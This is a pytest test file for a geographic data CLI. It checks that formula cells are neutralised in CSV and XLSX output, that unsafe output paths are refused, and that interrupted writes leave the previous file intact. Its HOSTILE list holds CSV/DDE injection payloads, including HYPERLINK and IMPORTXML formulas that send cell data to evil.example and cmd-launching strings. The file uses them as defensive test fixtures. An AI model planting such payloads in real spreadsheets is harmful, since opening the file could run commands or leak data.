"""Hostile outputs: no live formula, no half file, no overwritten input, refused early.

Every input is generated at test time. The CLI runs as a real subprocess where the
behaviour depends on the process (exit status, signals); in-process with a patched
writer where a fault has to be provoked (a full disk, Ctrl-C at a given moment).
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from cli import main
from core import safe_io
from core.errors import DataValidationError
from core.safe_io import (
    atomic_write,
    check_output_path,
    csv_bytes,
    is_formula_like,
    neutralise_formulas,
    xlsx_bytes,
)
from tests.conftest import ROOT

#: Names a hostile register may hold (OWASP CSV-injection payloads and friends).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    '=IMPORTXML("http://evil.example","//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "=1+1\n=2+2",
]
#: Text that starts like a formula but is a plain number: kept as typed.
PLAIN = ["-3.5", "+86", "1e5"]


def run_cli(*args, timeout=120):
    """``python cli.py *args`` (messages in English), finished."""
    return subprocess.run([sys.executable, "cli.py", *map(str, args), "--lang", "en"], cwd=ROOT,
                          capture_output=True, text=True, timeout=timeout)


def hostile_register(path: Path) -> Path:
    """A CSV whose names and industries are formula payloads, all inside 南山."""
    names = HOSTILE + PLAIN + ["普通企业"]
    n = len(names)
    pd.DataFrame({"name": names, "lon": np.linspace(113.93, 113.95, n),
                  "lat": np.full(n, 22.535),
                  "industry": ["=IMPORTXML(A1)"] * 3 + ["智能终端"] * (n - 3)}
                 ).to_csv(path, index=False, encoding="utf-8")
    return path


def big_register(path: Path, rows: int) -> Path:
    rng = np.random.default_rng(22)
    pd.DataFrame({"name": [f"企业{i}" for i in range(rows)],
                  "lon": rng.uniform(113.85, 114.25, rows).round(6),
                  "lat": rng.uniform(22.52, 22.72, rows).round(6),
                  "industry": rng.choice(["智能终端", "生物医药", "新材料"], rows)}
                 ).to_csv(path, index=False)
    return path


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def partials(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.endswith(".partial")]


def assert_no_live_formula_xlsx(data) -> int:
    """Every cell of every sheet: no formula, no text a spreadsheet would run."""
    wb = openpyxl.load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    cells = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                cells += 1
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not is_formula_like(cell.value), (ws.title, cell.coordinate,
                                                         cell.value)
    return cells


def assert_no_live_formula_csv(text: str) -> None:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for value in row:
            assert not is_formula_like(value), value


# --------------------------------------------------------------------- neutralising
def test_formula_cells_get_an_apostrophe_and_stay_readable():
    frame = pd.DataFrame({"name": HOSTILE + [None]})
    out = neutralise_formulas(frame)["name"]
    assert out.iloc[:-1].tolist() == ["'" + v for v in HOSTILE]
    assert out.isna().iloc[-1]
    assert frame["name"].tolist()[:-1] == HOSTILE  # the input is not mutated


def test_plain_numbers_and_numeric_columns_are_left_alone():
    frame = pd.DataFrame({"text": PLAIN + ["ok"], "value": [-3.5, -1.0, 2.0, 0.0]})
    out = neutralise_formulas(frame)
    assert out["text"].tolist() == PLAIN + ["ok"]
    assert out["value"].dtype == float and out["value"].tolist() == [-3.5, -1.0, 2.0, 0.0]


def test_headers_categories_and_mixed_cells_are_neutralised():
    frame = pd.DataFrame({"=cmd": ["a"], "cat": pd.Categorical(["@x"]),
                          "mixed": pd.Series([pd.Timestamp("2024-01-02")], dtype=object)})
    frame.loc[1] = ["+b", "@x", "=c"]
    out = neutralise_formulas(frame)
    assert list(out.columns) == ["'=cmd", "cat", "mixed"]
    assert out["=cmd" if "=cmd" in out else "'=cmd"].tolist() == ["a", "'+b"]
    assert out["cat"].astype(str).tolist() == ["'@x", "'@x"]
    assert out["mixed"].tolist() == [pd.Timestamp("2024-01-02"), "'=c"]


def test_csv_bytes_has_bom_metadata_lines_and_no_formula():
    frame = pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))})
    data = csv_bytes(frame, metadata=[("source", "=evil.csv\nsecond line"),
                                      ("crs", "EPSG:4326")])
    text = data.decode("utf-8")
    assert text.startswith("\ufeff# source: =evil.csv second line\n# crs: EPSG:4326\n")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", skiprows=2)
    assert back["name"].tolist() == ["'" + v for v in HOSTILE]
    assert_no_live_formula_csv(text.split("\n", 2)[2])


def test_xlsx_bytes_writes_text_as_text_dates_as_dates_and_a_metadata_sheet():
    frame = pd.DataFrame({"name": HOSTILE[:3] + ["bell\x07"],
                          "when": pd.date_range("2024-01-01", periods=4, tz="Asia/Shanghai"),
                          "n": [-3.5, 1, 2, 3]})
    data = xlsx_bytes({"results": frame, "bad/name[1]": frame.head(1)},
                      metadata=[("source", "=HYPERLINK(1)")])
    assert assert_no_live_formula_xlsx(data) > 0
    sheets = pd.read_excel(io.BytesIO(data), sheet_name=None)
    assert list(sheets) == ["results", "bad_name_1_", "metadata"]
    res = sheets["results"]
    assert res["name"].iloc[0] == "'" + HOSTILE[0] and res["name"].iloc[3] == "bell\ufffd"
    assert res["when"].iloc[0] == pd.Timestamp("2024-01-01") and res["n"].iloc[0] == -3.5
    assert sheets["metadata"].iloc[0].tolist() == ["source", "'=HYPERLINK(1)"]


def test_xlsx_beyond_excels_row_limit_is_refused(monkeypatch):
    monkeypatch.setattr(safe_io, "XLSX_MAX_ROWS", 5)
    with pytest.raises(DataValidationError, match="do not fit in an Excel sheet"):
        xlsx_bytes({"s": pd.DataFrame({"a": range(5)})})


# --------------------------------------------------------------------- through the CLI
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_check_writes_formula_names_as_text_never_as_live_formulas(tmp_path, suffix):
    src = hostile_register(tmp_path / "hostile.csv")
    out = tmp_path / f"out{suffix}"
    run = run_cli("check", src, "--out", out, "--quiet")
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr
    if suffix == ".xlsx":
        assert_no_live_formula_xlsx(out)
        res = pd.read_excel(out)
    else:
        assert_no_live_formula_csv(out.read_text(encoding="utf-8-sig"))
        res = pd.read_csv(out, encoding="utf-8-sig")
    names = res["name"].astype(str).tolist()
    for got, typed in zip(names, HOSTILE, strict=False):  # visible as typed, behind a '
        assert got in ("'" + typed, "'" + typed.replace("\r", "")), (got, typed)
    assert names[len(HOSTILE):] == [*PLAIN, "普通企业"]  # plain numbers kept as typed


def test_stats_workbook_from_hostile_categories_has_no_live_formula(tmp_path):
    src = tmp_path / "f.csv"
    pd.DataFrame({"name": ["=a", "@b"], "lon": [113.94, 113.945], "lat": [22.53, 22.535],
                  "category": ["=HYPERLINK(\"x\")", "+cmd"], "industry": ["智能终端"] * 2}
                 ).to_csv(src, index=False)
    out = tmp_path / "s.xlsx"
    assert main(["stats", "--facilities", str(src), "--out", str(out)]) == 0
    assert assert_no_live_formula_xlsx(out) > 0


def test_check_of_an_xlsx_with_date_cells_writes_csv_and_xlsx(tmp_path):
    src = tmp_path / "dates.xlsx"
    pd.DataFrame({"name": ["a", "b", "c"], "lon": [113.94, 113.945, 113.95],
                  "lat": [22.53, 22.535, 22.54],
                  "founded": pd.Series([pd.Timestamp("2020-01-01"), "unknown", 3],
                                       dtype=object)}).to_excel(src, index=False)
    for out in (tmp_path / "o.csv", tmp_path / "o.xlsx"):
        run = run_cli("check", src, "--out", out, "--quiet")
        assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
        assert out.stat().st_size > 0


def test_out_equal_to_the_input_is_refused_before_any_work(tmp_path):
    src = big_register(tmp_path / "in.csv", 50_000)
    before, mtime = digest(src), src.stat().st_mtime_ns
    for same in (src, tmp_path / "." / "in.csv"):
        run = run_cli("check", same, "--out", src)
        assert run.returncode == 2
        assert "is also an input file" in run.stderr and "[1/" not in run.stderr
    os.link(src, tmp_path / "hardlink.csv")
    run = run_cli("check", src, "--out", tmp_path / "hardlink.csv")
    assert run.returncode == 2 and "is also an input file" in run.stderr
    assert digest(src) == before and src.stat().st_mtime_ns == mtime


@pytest.mark.parametrize(("out", "says"), [
    ("missing/dir/o.csv", "does not exist"),
    ("o.txt", "cannot write '.txt' files"),
    ("NUL.csv", "reserved"),
    ("/proc/o.csv", "cannot create files in the folder"),
    (".", "is an existing folder"),
])
def test_impossible_outputs_are_refused_before_reading(tmp_path, out, says):
    src = big_register(tmp_path / "in.csv", 1000)
    target = out if out.startswith("/") else tmp_path / out
    run = run_cli("check", src, "--out", target)
    assert run.returncode == 2 and says in run.stderr, run.stderr
    # refused before reading: no stage of the run started
    assert "[1/" not in run.stderr and "Traceback" not in run.stderr


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_an_unwritable_folder_is_refused_before_reading(tmp_path):
    src = big_register(tmp_path / "in.csv", 100)
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    try:
        assert main(["check", str(src), "--out", str(locked / "o.csv")]) == 2
    finally:
        locked.chmod(0o700)


def test_check_output_path_lists_every_problem_with_its_fix(tmp_path):
    with pytest.raises(DataValidationError) as err:
        check_output_path(tmp_path / "nope" / "CON.txt", allowed_suffixes=(".csv",))
    text = str(err.value)
    assert "3 problems" in text and ".txt" in text and "reserved" in text
    assert "does not exist" in text and "end the name in one of: .csv" in text


def test_shipped_data_folders_are_not_outputs(tmp_path):
    src = big_register(tmp_path / "in.csv", 10)
    assert main(["check", str(src), "--out", str(ROOT / "geodata" / "x.csv")]) == 2
    assert not (ROOT / "geodata" / "x.csv").exists()


def test_xlsx_output_too_big_for_excel_is_refused_before_the_check(tmp_path, monkeypatch,
                                                                    capsys):
    monkeypatch.setattr(safe_io, "XLSX_MAX_ROWS", 100)
    src = big_register(tmp_path / "in.csv", 500)
    assert main(["check", "--lang", "en", str(src), "--out", str(tmp_path / "o.xlsx")]) == 2
    err = capsys.readouterr().err
    assert "do not fit in an Excel sheet" in err and "[3/4]" not in err
    assert not (tmp_path / "o.xlsx").exists()


def test_a_stale_report_does_not_survive_a_clean_rerun(tmp_path):
    src = tmp_path / "in.csv"
    out = tmp_path / "o.csv"
    src.write_text("name,lon,lat\na,113.94,22.53\nb,x,22.5\n", encoding="utf-8")
    assert main(["check", str(src), "--out", str(out), "--quiet"]) == 0
    report = tmp_path / "o_report.csv"
    assert "not a number" in report.read_text(encoding="utf-8-sig")
    src.write_text("name,lon,lat\na,113.94,22.53\nb,113.95,22.54\n", encoding="utf-8")
    assert main(["check", str(src), "--out", str(out), "--quiet"]) == 0
    assert not report.exists()
    assert partials(tmp_path) == []


def test_a_full_disk_leaves_the_previous_file_and_says_so(tmp_path, monkeypatch, capsys):
    import pyarrow.csv as pacsv

    src = hostile_register(tmp_path / "in.csv")
    out = tmp_path / "o.csv"
    out.write_text("previous complete result\n", encoding="utf-8")

    def full_disk(table, fh, *a, **k):
        fh.write(b"half a row")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pacsv, "write_csv", full_disk)
    assert main(["check", "--lang", "en", str(src), "--out", str(out), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "No space left on device" in err and str(out) in err and "free some" in err
    assert out.read_text(encoding="utf-8") == "previous complete result\n"
    assert partials(tmp_path) == []


def test_ctrl_c_while_writing_leaves_the_previous_file(tmp_path, monkeypatch, capsys):
    import pyarrow.csv as pacsv

    src = hostile_register(tmp_path / "in.csv")
    out = tmp_path / "o.csv"
    out.write_text("previous\n", encoding="utf-8")

    def interrupted(table, fh, *a, **k):
        fh.write(b"partial")
        raise KeyboardInterrupt

    monkeypatch.setattr(pacsv, "write_csv", interrupted)
    assert main(["check", "--lang", "en", str(src), "--out", str(out), "--quiet"]) == 130
    err = capsys.readouterr().err
    assert "interrupted, nothing written" in err and "Traceback" not in err
    assert out.read_text(encoding="utf-8") == "previous\n" and partials(tmp_path) == []


def test_atomic_write_removes_the_temporary_file_on_failure(tmp_path):
    target = tmp_path / "t.csv"
    with pytest.raises(RuntimeError), atomic_write(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError
    assert not target.exists() and list(tmp_path.iterdir()) == []
    with atomic_write(target) as tmp:
        assert tmp.parent.parent == tmp_path and tmp.name == "t.csv"
        tmp.write_text("whole")
    assert target.read_text() == "whole" and list(tmp_path.iterdir()) == [target]


# --------------------------------------------------------------------- real kills
KILL_ROWS = 150_000


@pytest.fixture(scope="module")
def kill_setup(tmp_path_factory):
    """A register large enough to take a while to write, and one complete result."""
    folder = tmp_path_factory.mktemp("kill")
    src = big_register(folder / "register.csv", KILL_ROWS)
    out = folder / "result.csv"
    run = run_cli("check", src, "--out", out, "--quiet")
    assert run.returncode == 0, run.stderr
    return src, out, digest(out)


def _interruptible() -> None:
    """In the child before exec: Ctrl-C (SIGINT) back to its default, as in a terminal.
    A test run started in the background (`make test &`, a CI job without job control)
    passes SIGINT down ignored, and Python then keeps ignoring it, as it should."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def kill_while_writing(src: Path, out: Path, sig: int) -> tuple[int, str, float]:
    """Start `cli.py check`, wait until its temporary output exists, send ``sig``. Small
    chunks make the write last (the compiled join checks a large chunk faster than the
    test can look), so the signal lands mid-write, not after the rename."""
    proc = subprocess.Popen([sys.executable, "cli.py", "check", str(src), "--out", str(out),
                             "--quiet", "--chunk-rows", "2000", "--lang", "en"], cwd=ROOT,
                            preexec_fn=_interruptible, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:
        tmp = list(out.parent.glob(f".{out.name}.{proc.pid}.*.partial/{out.name}"))
        try:
            if tmp and tmp[0].stat().st_size > 0:  # rows are being written
                break
        except FileNotFoundError:  # renamed or removed meanwhile
            pass
        time.sleep(0.005)
    assert proc.poll() is None, "the run ended before it could be killed mid-write"
    t0 = time.monotonic()
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    return proc.returncode, err, time.monotonic() - t0


#: signal → (exit status, last words); SIGKILL cannot be caught and says nothing
STOPS = {signal.SIGKILL: (-signal.SIGKILL, ""),
         signal.SIGTERM: (143, "terminated, nothing written"),
         signal.SIGINT: (130, "interrupted, nothing written")}


@pytest.mark.parametrize("sig", list(STOPS), ids=["SIGKILL", "SIGTERM", "SIGINT"])
def test_killed_mid_write_the_previous_complete_result_survives(kill_setup, sig):
    src, out, complete = kill_setup
    rc, err, _ = kill_while_writing(src, out, sig)
    status, words = STOPS[sig]
    assert rc == status and words in err
    assert "Traceback" not in err
    if sig != signal.SIGKILL:
        assert partials(out.parent) == []  # cleaned up on the way out
    assert digest(out) == complete  # the previous complete result, byte for byte
    assert len(pd.read_csv(out, usecols=["name"])) == KILL_ROWS


def test_killed_mid_write_without_a_previous_result_leaves_no_file(kill_setup):
    src, out, _ = kill_setup
    fresh = out.with_name("fresh.csv")
    rc, _, _ = kill_while_writing(src, fresh, signal.SIGKILL)
    assert rc == -signal.SIGKILL
    assert not fresh.exists()
    assert partials(out.parent)  # the killed run's temporary folder…
    run = run_cli("check", src, "--out", fresh, "--quiet")
    assert run.returncode == 0
    assert not [p for p in partials(out.parent) if p.startswith(".fresh.csv.")]  # …swept
    assert len(pd.read_csv(fresh, usecols=["name"])) == KILL_ROWS
